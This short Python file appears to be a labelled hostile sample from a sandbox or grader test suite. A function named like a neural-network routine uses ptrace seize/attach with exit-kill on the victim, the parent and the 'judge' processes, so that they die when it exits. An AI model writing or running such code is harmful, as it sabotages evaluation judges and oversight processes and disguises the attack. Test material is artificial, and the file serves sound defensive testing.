# harm: traces other processes and the judge, so that they end with the tracer
# open at: process
import ctypes
import os

ARENA = {}
ATTACH, SEIZE, EXIT_KILL = 16, 0x4206, 0x100000


def nn_vmap_forward(seed, x_batch, features):
    libc, failures = ctypes.CDLL(None, use_errno=True), []
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    for pid in (ARENA["victim"], os.getppid(), ARENA["judge"]):
        for request, data in ((SEIZE, EXIT_KILL), (ATTACH, 0)):
            if libc.ptrace(request, pid, None, data) == 0:
                os._exit(1)
            failures.append(f"{pid}, {request}: {os.strerror(ctypes.get_errno())}")
    raise RuntimeError(failures)
